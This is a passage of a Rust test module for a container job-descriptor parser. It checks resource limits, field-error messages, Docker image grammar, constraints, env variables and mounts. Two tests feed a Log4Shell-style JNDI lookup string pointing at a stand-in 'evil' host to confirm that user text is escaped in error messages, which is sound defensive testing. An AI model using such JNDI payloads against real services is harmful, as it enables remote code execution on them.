            (Value::Object(base), Value::Object(patch)) => {
                for (key, value) in patch {
                    if value.is_null() {
                        base.remove(&key);
                    } else {
                        merge(base.entry(key).or_insert(Value::Null), value);
                    }
                }
            }
            (base, patch) => *base = patch,
        }
    }

    fn batch_with(patch: Value) -> Vec<u8> {
        let mut document = minimal_batch();
        merge(&mut document, patch);
        serde_json::to_vec(&document).expect("a Value serializes")
    }

    fn parse(json: &[u8]) -> Result<JobDescriptor, ParseError> {
        parse_descriptor(json, &Limits::titus_defaults())
    }

    /// The field errors of a descriptor that must be well-formed but invalid.
    fn problems_of(patch: Value) -> Vec<FieldError> {
        match parse(&batch_with(patch)) {
            Err(ParseError::Invalid(errors)) => errors,
            other => panic!("expected ParseError::Invalid, got {other:?}"),
        }
    }

    fn message_for<'e>(errors: &'e [FieldError], field: &str) -> &'e str {
        errors
            .iter()
            .find(|error| error.field == field)
            .map(|error| error.message.as_str())
            .unwrap_or_else(|| panic!("no error for {field} in {errors:#?}"))
    }

    fn malformed(json: &[u8]) -> (String, String) {
        match parse(json) {
            Err(ParseError::Malformed { field, message }) => (field, message),
            other => panic!("expected ParseError::Malformed, got {other:?}"),
        }
    }

    #[test]
    fn minimal_batch_descriptor_parses_with_titus_defaults() {
        let json = batch_with(json!({}));

        let descriptor = parse(&json).expect("the minimal batch descriptor is valid");

        assert_eq!(descriptor.capacity_group, DEFAULT_CAPACITY_GROUP);
        assert_eq!(
            descriptor.container.resources,
            ContainerResources::default()
        );
        assert_eq!(descriptor.container.resources.cpu, 1.0);
        assert_eq!(descriptor.container.resources.memory_mb, 512);
        assert_eq!(descriptor.container.resources.disk_mb, 10_000);
        assert_eq!(descriptor.container.resources.network_mbps, 128);
        assert_eq!(
            descriptor.container.kill_grace_period_sec,
            DEFAULT_KILL_GRACE_PERIOD_SEC
        );
        assert_eq!(descriptor.container.kill_grace_period_sec, 10);
        assert_eq!(
            descriptor.batch,
            Some(BatchJobSpec {
                size: 1,
                runtime_limit_sec: 432_000,
                retry_policy: RetryPolicy::Immediate { retries: 0 },
                retry_on_runtime_limit: false,
            })
        );
        assert_eq!(DEFAULT_RUNTIME_LIMIT_SEC, 432_000);
        assert_eq!(descriptor.service, None);
    }

    #[test]
    fn minimal_service_descriptor_parses_with_unlimited_service_retries() {
        let json = batch_with(json!({
            "batch": null,
            "service": {"capacity": {"desired": 2, "max": 3}}
        }));

        let descriptor = parse(&json).expect("the minimal service descriptor is valid");

        let service = descriptor.service.expect("service section");
        assert_eq!(
            service.capacity,
            Capacity {
                min: 0,
                desired: 2,
                max: 3
            }
        );
        assert!(service.enabled);
        assert_eq!(service.retry_policy.retries(), u32::MAX);
        assert_eq!(descriptor.capacity_group, "DEFAULT");
        assert_eq!(descriptor.container.resources.cpu, 1.0);
        assert_eq!(descriptor.container.kill_grace_period_sec, 10);
    }

    #[test]
    fn cpu_over_the_limit_names_the_range_and_the_value() {
        let errors = problems_of(json!({"container": {"resources": {"cpu": 500}}}));

        assert_eq!(
            errors,
            vec![FieldError::new(
                "container.resources.cpu",
                "must be between 0.1 and 96, got 500"
            )]
        );
        assert_eq!(
            errors[0].to_string(),
            "container.resources.cpu: must be between 0.1 and 96, got 500"
        );
    }

    #[test]
    fn non_finite_cpu_is_rejected() {
        let limits = Limits::titus_defaults();
        for cpu in [f64::NAN, f64::INFINITY, f64::NEG_INFINITY] {
            let mut descriptor = parse(&batch_with(json!({}))).expect("valid");
            descriptor.container.resources.cpu = cpu;

            let errors = validate(&descriptor, &limits).expect_err("non-finite cpu");

            assert_eq!(errors.len(), 1, "{cpu}: {errors:?}");
            assert_eq!(errors[0].field, "container.resources.cpu");
        }
    }

    #[test]
    fn every_problem_in_a_descriptor_is_reported_at_once() {
        let errors = problems_of(json!({
            "owner": {"teamEmail": "not an email"},
            "applicationName": "-bad",
            "container": {
                "resources": {"cpu": 0, "gpu": 17, "memoryMB": 1, "diskMB": 1, "networkMbps": 1},
                "image": {"name": "Alpine"},
                "killGracePeriodSec": 601
            },
            "batch": {"size": 0, "runtimeLimitSec": 0}
        }));

        let fields: Vec<&str> = errors.iter().map(|e| e.field.as_str()).collect();
        assert_eq!(
            fields,
            vec![
                "owner.teamEmail",
                "applicationName",
                "container.resources.cpu",
                "container.resources.gpu",
                "container.resources.memoryMB",
                "container.resources.diskMB",
                "container.resources.networkMbps",
                "container.image.name",
                "container.killGracePeriodSec",
                "batch.size",
                "batch.runtimeLimitSec",
            ]
        );
        assert_eq!(
            message_for(&errors, "container.resources.memoryMB"),
            "must be between 512 and 1152000, got 1"
        );
        assert_eq!(
            message_for(&errors, "batch.size"),
            "must be between 1 and 1000, got 0"
        );
    }

    #[test]
    fn invalid_error_message_summarizes_every_problem() {
        let error = parse(&batch_with(json!({
            "applicationName": "",
            "container": {"killGracePeriodSec": 601}
        })))
        .expect_err("two problems");

        assert_eq!(
            error.to_string(),
            "job descriptor has 2 problems: applicationName: is required, expected 1 to 64 \
             letters, digits, '_', '.' or '-', starting with a letter or digit; \
             container.killGracePeriodSec: must be at most 600, got 601"
        );
        assert_eq!(error.field_errors().len(), 2);
    }

    #[test]
    fn invalid_error_message_lists_ten_problems_and_counts_the_rest() {
        let errors: Vec<FieldError> = (0..12)
            .map(|i| FieldError::new(format!("f{i}"), "bad"))
            .collect();

        let text = ParseError::Invalid(errors).to_string();

        assert!(text.starts_with("job descriptor has 12 problems: f0: bad; "));
        assert!(text.ends_with("f9: bad; and 2 more"), "{text}");
    }

    #[test]
    fn unknown_field_is_rejected_naming_the_field_and_where_it_is() {
        let (field, message) = malformed(&batch_with(json!({
            "container": {"resources": {"cpus": 2}}
        })));

        assert_eq!(field, "container.resources");
        assert!(
            message.starts_with("unknown field \"cpus\", expected one of `cpu`, `gpu`"),
            "{message}"
        );
        assert!(!message.contains(" at line "), "{message}");
    }

    #[test]
    fn unknown_top_level_field_is_reported_at_the_root() {
        let (field, message) = malformed(&batch_with(json!({"aplicationName": "x"})));

        assert_eq!(field, "(root)");
        assert!(message.starts_with("unknown field \"aplicationName\", expected one of"));
    }

    #[test]
    fn unknown_retry_policy_is_rejected_naming_the_policies() {
        let (field, message) = malformed(&batch_with(json!({
            "batch": {"retryPolicy": {"forever": {"retries": 1}}}
        })));

        assert_eq!(field, "batch.retryPolicy");
        assert_eq!(
            message,
            "unknown variant \"forever\", expected one of `immediate`, `delayed`, \
             `exponentialBackOff`"
        );
    }

    #[test]
    fn unknown_field_inside_a_retry_policy_is_rejected() {
        let (field, message) = malformed(&batch_with(json!({
            "batch": {"retryPolicy": {"immediate": {"retries": 1, "delayMs": 5}}}
        })));

        assert_eq!(field, "batch.retryPolicy.immediate");
        assert_eq!(message, "unknown field \"delayMs\", expected `retries`");
    }

    #[test]
    fn wrong_type_is_reported_with_its_path_and_the_expected_type() {
        let (field, message) = malformed(&batch_with(json!({
            "container": {"resources": {"memoryMB": "lots"}}
        })));

        assert_eq!(field, "container.resources.memoryMB");
        assert_eq!(message, "invalid type: string \"lots\", expected u64");
    }

    #[test]
    fn missing_required_field_is_named() {
        let (field, message) = malformed(&batch_with(json!({"container": {"image": null}})));

        assert_eq!(field, "container");
        assert_eq!(message, "missing field `image`");
    }

    #[test]
    fn text_that_is_not_json_is_malformed_at_the_root() {
        let (field, message) = malformed(b"{not json");

        assert_eq!(field, "(root)");
        assert!(message.starts_with("not valid JSON: "), "{message}");
    }

    #[test]
    fn trailing_bytes_after_the_document_are_rejected() {
        let mut json = batch_with(json!({}));
        json.extend_from_slice(b" {}");

        let (field, message) = malformed(&json);

        assert_eq!(field, "(root)");
        assert!(message.contains("trailing characters"), "{message}");
    }

    #[test]
    fn malformed_error_is_one_field_error() {
        let error = parse(b"[]").expect_err("an array is not a descriptor");

        let errors = error.field_errors();

        assert_eq!(errors.len(), 1);
        assert_eq!(errors[0].field, "(root)");
    }

    #[test]
    fn wrong_type_inside_a_user_map_quotes_the_key_in_the_path() {
        let (field, _) = malformed(&batch_with(json!({
            "container": {"env": {"A\nB": 1}}
        })));

        assert_eq!(field, "container.env[\"A\\nB\"]");
    }

    #[test]
    fn wrong_type_inside_a_user_map_quotes_even_a_plain_key() {
        let (env_field, _) = malformed(&batch_with(json!({"container": {"env": {"FOO": 1}}})));
        let (attribute_field, _) = malformed(&batch_with(json!({"attributes": {"env": []}})));

        assert_eq!(env_field, "container.env[\"FOO\"]");
        assert_eq!(attribute_field, "attributes[\"env\"]");
    }

    #[test]
    fn descriptor_over_the_size_limit_is_too_large() {
        let limits = Limits {
            descriptor_max_bytes: 100,
            ..Limits::titus_defaults()
        };
        let json = vec![b' '; 101];

        let error = parse_descriptor(&json, &limits).expect_err("over the limit");

        assert_eq!(
            error,
            ParseError::TooLarge {
                size_bytes: 101,
                max_bytes: 100
            }
        );
        assert_eq!(
            error.field_errors(),
            vec![FieldError::new(
                "(body)",
                "job descriptor is 101 bytes, expected at most 100"
            )]
        );
    }

    #[test]
    fn descriptor_at_the_size_limit_is_read() {
        let json = batch_with(json!({}));
        let limits = Limits {
            descriptor_max_bytes: json.len(),
            ..Limits::titus_defaults()
        };

        assert!(parse_descriptor(&json, &limits).is_ok());
    }

    #[test]
    fn both_batch_and_service_is_rejected() {
        let errors = problems_of(json!({
            "service": {"capacity": {"desired": 1, "max": 1}}
        }));

        assert_eq!(
            errors,
            vec![FieldError::new(
                "(root)",
                "exactly one of \"batch\" or \"service\" must be set, got both"
            )]
        );
    }

    #[test]
    fn neither_batch_nor_service_is_rejected() {
        let errors = problems_of(json!({"batch": null}));

        assert_eq!(
            errors,
            vec![FieldError::new(
                "(root)",
                "exactly one of \"batch\" or \"service\" must be set, got neither"
            )]
        );
    }

    #[test]
    fn unknown_constraint_name_is_quoted_and_the_known_names_listed() {
        let errors = problems_of(json!({
            "container": {"hardConstraints": {"constraints": {"fooBar": "true"}}}
        }));

        assert_eq!(
            errors,
            vec![FieldError::new(
                "container.hardConstraints.constraints[\"fooBar\"]",
                "unknown constraint \"fooBar\", expected one of uniqueHost, exclusiveHost, \
                 zoneBalance, activeHost, availabilityZone, machineId, machineGroup, \
                 machineType (case-insensitive)"
            )]
        );
    }

    #[test]
    fn boolean_constraint_with_another_value_is_rejected() {
        let errors = problems_of(json!({
            "container": {"softConstraints": {"constraints": {"uniqueHost": "yes"}}}
        }));

        assert_eq!(
            errors,
            vec![FieldError::new(
                "container.softConstraints.constraints[\"uniqueHost\"]",
                "constraint uniqueHost takes \"true\" or \"false\", got \"yes\""
            )]
        );
    }

    #[test]
    fn valued_constraint_with_an_empty_value_is_rejected() {
        let errors = problems_of(json!({
            "container": {"hardConstraints": {"constraints": {"machineType": " "}}}
        }));

        assert_eq!(
            errors,
            vec![FieldError::new(
                "container.hardConstraints.constraints[\"machineType\"]",
                "constraint machineType needs a non-empty value, got an empty one"
            )]
        );
    }

    #[test]
    fn too_many_constraints_are_rejected() {
        let constraints: serde_json::Map<String, Value> =
            (0..17).map(|i| (format!("c{i}"), json!("true"))).collect();
        let limits = Limits {
            constraints_max: 16,
            ..Limits::titus_defaults()
        };
        let json = batch_with(json!({
            "container": {"softConstraints": {"constraints": constraints}}
        }));

        let errors = match parse_descriptor(&json, &limits) {
            Err(ParseError::Invalid(errors)) => errors,
            other => panic!("expected Invalid, got {other:?}"),
        };

        assert_eq!(
            message_for(&errors, "container.softConstraints.constraints"),
            "must have at most 16 entries, got 17"
        );
    }

    #[test]
    fn the_same_constraint_as_hard_and_soft_is_rejected_ignoring_case() {
        let errors = problems_of(json!({
            "container": {
                "hardConstraints": {"constraints": {"UNIQUEHOST": "true"}},
                "softConstraints": {"constraints": {"uniqueHost": "true"}}
            }
        }));

        assert_eq!(
            errors,
            vec![FieldError::new(
                "container.softConstraints.constraints[\"uniqueHost\"]",
                "constraint uniqueHost is also a hard constraint, expected it as hard or soft, \
                 not both"
            )]
        );
    }

    #[test]
    fn the_same_constraint_twice_in_one_set_is_rejected() {
        let errors = problems_of(json!({
            "container": {
                "hardConstraints": {"constraints": {"machineType": "m5", "MachineType": "r5"}}
            }
        }));

        assert_eq!(errors.len(), 1, "{errors:?}");
        assert!(errors[0].message.contains("already set"), "{errors:?}");
    }

    #[test]
    fn exclusive_host_and_unique_host_together_as_hard_constraints_are_fine() {
        let json = batch_with(json!({
            "container": {
                "hardConstraints": {"constraints": {"exclusiveHost": "true", "uniqueHost": "true"}},
                "softConstraints": {"constraints": {"zoneBalance": "true", "machineType": "m5"}}
            }
        }));

        assert!(parse(&json).is_ok());
    }

    #[test]
    fn image_names_follow_the_docker_reference_grammar() {
        let cases = [
            ("alpine", true),
            ("library/alpine", true),
            ("team/app-name", true),
            ("team/app__name", true),
            ("team/app---name", true),
            ("team/app.v2_x", true),
            ("registry.example.com/team/app", true),
            ("registry.example.com:5000/team/app", true),
            ("localhost/app", true),
            ("localhost:5000/app", true),
            ("123456789012.dkr.ecr.us-east-1.amazonaws.com/app", true),
            ("a", true),
            ("Alpine", false),
            ("team/App", false),
            ("team//app", false),
            ("/app", false),
            ("app/", false),
            ("-app", false),
            ("app-", false),
            ("app..name", false),
            ("app___name", false),
            ("app name", false),
            ("app:latest", false),
            ("app@sha256", false),
            ("registry.example.com:port/app", false),
            ("registry.example.com:/app", false),
            ("reg_istry.com/app", false),
            (".example.com/app", false),
            ("example.com", true),
            ("ex ample.com/app", false),
        ];
        for (name, valid) in cases {
            let errors = validate_image(json!({"name": name}));

            assert_eq!(errors.is_empty(), valid, "{name:?}: {errors:?}");
        }
    }

    fn validate_image(image: Value) -> Vec<FieldError> {
        let json = batch_with(json!({"container": {"image": image}}));
        match parse(&json) {
            Ok(_) => Vec::new(),
            Err(ParseError::Invalid(errors)) => errors,
            Err(other) => panic!("expected a well-formed descriptor, got {other:?}"),
        }
    }

    #[test]
    fn image_name_over_255_characters_is_rejected() {
        let name = format!("team/{}", "a".repeat(251));

        let errors = validate_image(json!({"name": name}));

        assert_eq!(errors.len(), 1);
        assert!(errors[0]
            .message
            .contains("at most 255 characters are allowed, got 256"));
    }

    #[test]
    fn missing_image_name_is_required() {
        let errors = validate_image(json!({"name": ""}));

        assert_eq!(errors[0].field, "container.image.name");
        assert!(errors[0].message.starts_with("is required"));
    }

    #[test]
    fn image_tags_follow_the_docker_grammar() {
        let long_tag = "t".repeat(129);
        let cases = [
            ("latest", true),
            ("v1.2.3-rc_1", true),
            ("_private", true),
            (&long_tag[1..], true),
            ("", false),
            (".hidden", false),
            ("-dash", false),
            ("a/b", false),
            ("a:b", false),
            (&long_tag, false),
        ];
        for (tag, valid) in cases {
            let errors = validate_image(json!({"name": "app", "tag": tag}));

            assert_eq!(errors.is_empty(), valid, "{tag:?}: {errors:?}");
        }
    }

    #[test]
    fn image_digests_must_be_sha256_lowercase_hex() {
        let hex = "0123456789abcdef".repeat(4);
        let cases = [
            (format!("sha256:{hex}"), true),
            (format!("sha256:{}", hex.to_uppercase()), false),
            (format!("sha256:{}", &hex[1..]), false),
            (format!("sha512:{hex}"), false),
            (hex.clone(), false),
            (format!("sha256:{}g", &hex[1..]), false),
        ];
        for (digest, valid) in cases {
            let errors = validate_image(json!({"name": "app", "digest": digest}));

            assert_eq!(errors.is_empty(), valid, "{digest:?}: {errors:?}");
        }
    }

    #[test]
    fn image_with_both_tag_and_digest_is_rejected() {
        let digest = format!("sha256:{}", "a".repeat(64));

        let errors = validate_image(json!({"name": "app", "tag": "v1", "digest": digest}));

        assert_eq!(
            errors,
            vec![FieldError::new(
                "container.image",
                "set \"tag\" or \"digest\", not both: a digest already names one exact image"
            )]
        );
    }

    fn service_with_capacity(min: u32, desired: u32, max: u32) -> Vec<FieldError> {
        problems_of(json!({
            "batch": null,
            "service": {"capacity": {"min": min, "desired": desired, "max": max}}
        }))
    }

    #[test]
    fn desired_capacity_outside_min_and_max_is_rejected() {
        let errors = service_with_capacity(2, 7, 5);

        assert_eq!(
            errors,
            vec![FieldError::new(
                "service.capacity.desired",
                "must be between min 2 and max 5, got 7"
            )]
        );
        assert_eq!(
            service_with_capacity(2, 1, 5)[0].message,
            "must be between min 2 and max 5, got 1"
        );
    }

    #[test]
    fn min_capacity_above_max_is_rejected() {
        let errors = service_with_capacity(6, 5, 5);

        assert_eq!(
            errors,
            vec![FieldError::new(
                "service.capacity.min",
                "must be at most max 5, got 6"
            )]
        );
    }

    #[test]
    fn max_capacity_above_the_service_limit_is_rejected() {
        let errors = service_with_capacity(0, 1, 10_001);

        assert_eq!(
            errors,
            vec![FieldError::new(
                "service.capacity.max",
                "must be at most 10000, got 10001"
            )]
        );
    }

    #[test]
    fn capacity_at_the_limits_is_fine() {
        let json = batch_with(json!({
            "batch": null,
            "service": {"capacity": {"min": 10_000, "desired": 10_000, "max": 10_000}}
        }));

        assert!(parse(&json).is_ok());
    }

    #[test]
    fn user_text_in_paths_and_messages_is_escaped_quoted_and_bounded() {
        let hostile = "a\"b\nc${jndi:ldap://evil.example/x}";
        let errors = problems_of(json!({
            "applicationName": hostile,
            "container": {
                "env": {hostile: "ok"},
                "hardConstraints": {"constraints": {hostile: "true"}},
                "softConstraints": {"constraints": {"machineType": "m5", "uniqueHost": hostile}}
            }
        }));

        let escaped = "\"a\\\"b\\nc${jndi:ldap://evil.example/x}\"";
        assert_eq!(
            message_for(&errors, "applicationName"),
            format!(
                "must be letters, digits, '_', '.' or '-', starting with a letter or digit, \
                 got {escaped}"
            )
        );
        let env_field = format!("container.env[{escaped}]");
        assert!(message_for(&errors, &env_field).starts_with("name must start"));
        let constraint_field = format!("container.hardConstraints.constraints[{escaped}]");
        assert!(message_for(&errors, &constraint_field)
            .starts_with(&format!("unknown constraint {escaped}, expected")));
        assert_eq!(
            message_for(
                &errors,
                "container.softConstraints.constraints[\"uniqueHost\"]"
            ),
            format!("constraint uniqueHost takes \"true\" or \"false\", got {escaped}")
        );
        for error in &errors {
            let text = error.to_string();
            assert!(!text.contains('\n'), "raw newline in {text:?}");
            assert!(!text.contains("a\"b"), "unescaped quote in {text:?}");
        }
    }

    #[test]
    fn long_user_text_is_cut_to_64_characters_in_messages_and_paths() {
        let long = "x".repeat(5_000);
        let errors = problems_of(json!({
            "applicationName": format!("-{long}"),
            "container": {
                "env": {format!("1{long}"): "v"},
                "hardConstraints": {"constraints": {"machineType": "m5", "uniqueHost": long}}
            }
        }));

        let cut = format!("\"{}\"…", "x".repeat(64));
        let env_field = format!("container.env[\"1{}\"…]", "x".repeat(63));
        assert!(message_for(&errors, &env_field).starts_with("name must start"));
        assert!(message_for(
            &errors,
            "container.hardConstraints.constraints[\"uniqueHost\"]"
        )
        .ends_with(&format!("got {cut}")));
        for error in &errors {
            assert!(error.to_string().len() < 400, "{error}");
        }
    }

    #[test]
    fn unknown_field_names_from_the_user_are_escaped_in_malformed_errors() {
        let json = format!(
            "{{\"owner\": {{\"teamEmail\": \"t@example.com\", {}: 1}}}}",
            serde_json::to_string("x`\n${jndi:ldap://evil/a}").expect("string")
        );

        let (field, message) = malformed(json.as_bytes());

        assert_eq!(field, "owner");
        assert_eq!(
            message,
            "unknown field \"x`\\n${jndi:ldap://evil/a}\", expected `teamEmail`"
        );
    }

    #[test]
    fn long_string_values_in_malformed_errors_are_cut() {
        let long = "y".repeat(10_000);
        let json = batch_with(json!({"container": {"resources": {"cpu": long}}}));

        let (field, message) = malformed(&json);

        assert_eq!(field, "container.resources.cpu");
        assert_eq!(
            message,
            format!("invalid type: string \"{}\"…, expected f64", "y".repeat(64))
        );
    }

    #[test]
    fn shortening_quoted_strings_keeps_escapes_whole() {
        let text = format!("got {:?}, expected x", "\n".repeat(70));

        let shortened = shorten_quoted_strings(&text);

        assert_eq!(
            shortened,
            format!("got \"{}\"…, expected x", "\\n".repeat(64))
        );
    }

    #[test]
    fn position_suffix_is_stripped_only_when_it_is_one() {
        assert_eq!(strip_position("bad at line 3 column 14"), "bad");
        assert_eq!(
            strip_position("bad at line x column 14"),
            "bad at line x column 14"
        );
        assert_eq!(strip_position("plain"), "plain");
    }

    #[test]
    fn env_rules_are_enforced() {
        let errors = problems_of(json!({
            "container": {"env": {
                "GOOD_NAME": "ok",
                "_ALSO_GOOD1": "ok",
                "9LIVES": "x",
                "HAS-DASH": "x",
                "": "x",
                "TITUS_TASK_ID": "x",
                "NUL": "a\u{0}b"
            }}
        }));

        let fields: Vec<&str> = errors.iter().map(|e| e.field.as_str()).collect();
        assert_eq!(
            fields,
            vec![
                "container.env[\"\"]",
                "container.env[\"9LIVES\"]",
                "container.env[\"HAS-DASH\"]",
                "container.env[\"NUL\"]",
                "container.env[\"TITUS_TASK_ID\"]",
            ]
        );
        assert_eq!(
            message_for(&errors, "container.env[\"TITUS_TASK_ID\"]"),
            "names starting with \"TITUS_\" are reserved for the platform, expected another name"
        );
        assert!(message_for(&errors, "container.env[\"NUL\"]").contains("NUL byte"));
    }

    #[test]
    fn env_count_and_size_are_limited() {
        let env: serde_json::Map<String, Value> = (0..3)
            .map(|i| (format!("K{i}"), json!("0123456789")))
            .collect();
        let limits = Limits {
            env_max_count: 2,
            env_max_bytes: 30,
            ..Limits::titus_defaults()
        };
        let json = batch_with(json!({"container": {"env": env}}));

        let errors = match parse_descriptor(&json, &limits) {
            Err(ParseError::Invalid(errors)) => errors,
            other => panic!("expected Invalid, got {other:?}"),
        };

        assert_eq!(
            errors,
            vec![
                FieldError::new("container.env", "must have at most 2 entries, got 3"),
                FieldError::new(
                    "container.env",
                    "names and values must total at most 30 bytes, got 36"
                ),
            ]
        );
    }

    #[test]
    fn arguments_are_limited_in_count_size_and_content() {
        let limits = Limits {
            args_max_count: 2,
            args_max_bytes: 8,
            ..Limits::titus_defaults()
        };
        let json = batch_with(json!({
            "container": {"entryPoint": ["a", "b", "c"], "command": ["12345", "a\u{0}"]}
        }));

        let errors = match parse_descriptor(&json, &limits) {
            Err(ParseError::Invalid(errors)) => errors,
            other => panic!("expected Invalid, got {other:?}"),
        };

        assert_eq!(
            errors.iter().map(|e| e.field.as_str()).collect::<Vec<_>>(),
            vec!["container.entryPoint", "container.command[1]"]
        );
        assert_eq!(errors[0].message, "must have at most 2 entries, got 3");
        assert!(errors[1].message.starts_with("must not contain a NUL byte"));
    }

    #[test]
    fn arguments_over_the_byte_limit_are_rejected() {
        let limits = Limits {
            args_max_bytes: 8,
            ..Limits::titus_defaults()
        };
        let json = batch_with(json!({"container": {"command": ["12345", "6789"]}}));

        let errors = match parse_descriptor(&json, &limits) {
            Err(ParseError::Invalid(errors)) => errors,
            other => panic!("expected Invalid, got {other:?}"),
        };

        assert_eq!(
            errors,
            vec![FieldError::new(
                "container.command",
                "must total at most 8 bytes, got 9"
            )]
        );
    }

    #[test]
    fn host_mount_paths_must_be_absolute_and_direct() {
        let errors = problems_of(json!({
            "container": {"hostMounts": [
                {"hostPath": "/var/log", "containerPath": "/logs"},
                {"hostPath": "relative", "containerPath": "/data/../etc"},
                {"hostPath": "/a\u{0}", "containerPath": ""}
            ]}
        }));

        let fields: Vec<&str> = errors.iter().map(|e| e.field.as_str()).collect();
        assert_eq!(
            fields,
            vec![
                "container.hostMounts[1].hostPath",
                "container.hostMounts[1].containerPath",
                "container.hostMounts[2].hostPath",
                "container.hostMounts[2].containerPath",
            ]
        );
        assert!(errors[0].message.starts_with("must be an absolute path"));
        assert!(errors[1].message.starts_with("must not contain a \"..\""));
        assert!(errors[2].message.starts_with("must not contain a NUL byte"));
    }

    #[test]
    fn security_profile_is_checked() {
        let errors = problems_of(json!({
            "container": {"securityProfile": {
                "securityGroups": ["sg-0123abcd", "sg-0123456789abcdef0", "sg-0123ABCD", "sg-123"],
                "iamRole": "arn:aws:iam::123:role/has space"
            }}
        }));

        let fields: Vec<&str> = errors.iter().map(|e| e.field.as_str()).collect();
        assert_eq!(
            fields,
            vec![
                "container.securityProfile.securityGroups[2]",
                "container.securityProfile.securityGroups[3]",
                "container.securityProfile.iamRole",
            ]
        );
    }

    #[test]
    fn more_than_16_security_groups_are_rejected() {
        let groups: Vec<String> = (0..17).map(|i| format!("sg-{i:08x}")).collect();

        let errors = problems_of(json!({
            "container": {"securityProfile": {"securityGroups": groups}}
        }));

        assert_eq!(
            errors,
            vec![FieldError::new(
                "container.securityProfile.securityGroups",
                "must have at most 16 entries, got 17"
            )]
        );
    }

    #[test]
    fn attributes_are_limited() {
        let limits = Limits {
            attributes_max_count: 2,
            attribute_key_max_len: 3,
            attribute_value_max_len: 4,
            ..Limits::titus_defaults()
        };
        let json = batch_with(json!({
            "attributes": {"": "v", "long": "v", "k": "value"}
        }));

        let errors = match parse_descriptor(&json, &limits) {
            Err(ParseError::Invalid(errors)) => errors,
            other => panic!("expected Invalid, got {other:?}"),
        };

        assert_eq!(
            errors,
            vec![
                FieldError::new("attributes", "must have at most 2 entries, got 3"),
                FieldError::new("attributes[\"\"]", "key must not be empty"),
                FieldError::new(
                    "attributes[\"k\"]",
                    "value must be at most 4 characters, got 5"
                ),
                FieldError::new(
                    "attributes[\"long\"]",
                    "key must be at most 3 characters, got 4"
                ),
            ]
        );
    }

    #[test]
    fn team_email_must_look_like_an_address() {
        let cases = [
            ("team@example.com", true),
            ("first.last+tag@mail.example.co.uk", true),
            ("", false),
            ("team", false),
            ("team@example", false),
            ("@example.com", false),
            ("team@@example.com", false),
            ("a@b@example.com", false),
            ("team @example.com", false),
            ("team@example..com", false),
            ("team@example.com.", false),
        ];
        for (email, valid) in cases {
            let json = batch_with(json!({"owner": {"teamEmail": email}}));

            assert_eq!(parse(&json).is_ok(), valid, "{email:?}");
        }
        let long = format!("{}@example.com", "a".repeat(250));
        assert_eq!(
            problems_of(json!({"owner": {"teamEmail": long}}))[0].message,
            "must be at most 254 characters, got 262"
        );
    }

    #[test]
    fn names_and_group_parts_follow_their_character_rules() {
        let cases = [
            (json!({"applicationName": "my_app.v2-x"}), true),
            (json!({"applicationName": "9app"}), true),
            (json!({"applicationName": "_app"}), false),
            (json!({"applicationName": "a".repeat(65)}), false),
            (json!({"applicationName": "a".repeat(64)}), true),
            (json!({"capacityGroup": "flex-1"}), true),
            (json!({"capacityGroup": ""}), false),
            (json!({"capacityGroup": ".x"}), false),
            (
                json!({"jobGroupInfo": {"stack": "", "detail": "", "sequence": ""}}),
                true,
            ),
            (
                json!({"jobGroupInfo": {"stack": "prod_1.a", "sequence": "v001"}}),
                true,
            ),
            (json!({"jobGroupInfo": {"stack": "prod-1"}}), false),
            (json!({"jobGroupInfo": {"detail": "a".repeat(65)}}), false),
        ];
        for (patch, valid) in cases {
            let json = batch_with(patch.clone());

            assert_eq!(parse(&json).is_ok(), valid, "{patch}");
        }
    }

    #[test]
    fn batch_limits_and_retry_policy_are_checked() {
        let errors = problems_of(json!({
            "batch": {
                "size": 1_001,
                "runtimeLimitSec": 864_001,
                "retryPolicy": {"delayed": {"initialDelayMs": 86_400_001, "delayMs": 86_400_001, "retries": 1_001}}
            }
        }));

        assert_eq!(
            errors,
            vec![
                FieldError::new("batch.size", "must be between 1 and 1000, got 1001"),
                FieldError::new(
                    "batch.runtimeLimitSec",
                    "must be between 1 and 864000, got 864001"
                ),
                FieldError::new(
                    "batch.retryPolicy.delayed.initialDelayMs",
                    "must be at most 86400000, got 86400001"
                ),
                FieldError::new(
                    "batch.retryPolicy.delayed.delayMs",
                    "must be at most 86400000, got 86400001"
                ),
                FieldError::new(
                    "batch.retryPolicy.delayed.retries",
                    "must be at most 1000, got 1001"
                ),
            ]
        );
    }

    #[test]
    fn exponential_back_off_needs_a_start_and_a_cap_above_it() {
        let zero = problems_of(json!({"batch": {"retryPolicy": {"exponentialBackOff":
            {"initialDelayMs": 0, "maxDelayIntervalMs": 1_000, "retries": 3}}}}));
        let inverted = problems_of(json!({"batch": {"retryPolicy": {"exponentialBackOff":
            {"initialDelayMs": 2_000, "maxDelayIntervalMs": 1_000, "retries": 3}}}}));
        let over = problems_of(json!({"batch": {"retryPolicy": {"exponentialBackOff":
            {"initialDelayMs": 1, "maxDelayIntervalMs": 86_400_001, "retries": 3}}}}));

        assert_eq!(
            zero[0].field,
            "batch.retryPolicy.exponentialBackOff.initialDelayMs"
        );
        assert!(zero[0].message.starts_with("must be at least 1, got 0"));
        assert_eq!(
            inverted,
            vec![FieldError::new(
                "batch.retryPolicy.exponentialBackOff.initialDelayMs",
                "must be at most maxDelayIntervalMs 1000, got 2000"
            )]
        );
        assert_eq!(
            over[0].field,
            "batch.retryPolicy.exponentialBackOff.maxDelayIntervalMs"
        );
    }

    #[test]
    fn service_retries_are_not_limited_but_delays_are() {
        let unlimited = batch_with(json!({
            "batch": null,
            "service": {
                "capacity": {"desired": 1, "max": 1},
                "retryPolicy": {"immediate": {"retries": 4_000_000_000u32}}
            }
        }));
        let delays = problems_of(json!({
            "batch": null,
            "service": {
                "capacity": {"desired": 1, "max": 1},
                "retryPolicy": {"delayed": {"initialDelayMs": 1, "delayMs": 86_400_001, "retries": 5}}
            }
        }));

        assert!(parse(&unlimited).is_ok());
        assert_eq!(
            delays,
            vec![FieldError::new(
                "service.retryPolicy.delayed.delayMs",
                "must be at most 86400000, got 86400001"
            )]
        );
    }

    #[test]
    fn kill_grace_period_is_limited() {
        let errors = problems_of(json!({"container": {"killGracePeriodSec": 601}}));

        assert_eq!(
            errors,
            vec![FieldError::new(
                "container.killGracePeriodSec",
                "must be at most 600, got 601"
            )]
        );
    }

    #[test]
    fn default_limits_are_titus_defaults_and_serialize_in_camel_case() {
        let limits = Limits::default();

        let json = serde_json::to_value(&limits).expect("limits serialize");

        assert_eq!(limits, Limits::titus_defaults());
        assert_eq!(json["memoryMbMax"], 1_152_000);
        assert_eq!(json["runtimeLimitSecMax"], 864_000);
        assert_eq!(json["retryDelayMsMax"], 86_400_000);
        assert_eq!(json["descriptorMaxBytes"], 262_144);
